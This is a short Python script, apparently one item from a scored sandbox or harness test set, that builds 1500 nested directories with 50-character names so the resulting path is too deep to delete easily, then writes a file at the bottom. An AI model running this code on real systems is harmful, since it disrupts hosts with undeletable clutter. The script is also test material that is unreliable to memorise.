# Tries: to leave folders so deep that nobody can remove them.
# Points: 2
import os


async def main():
    for number in range(1500):
        os.mkdir("a" * 50)
        os.chdir("a" * 50)
    open("deep", "w").write("x")
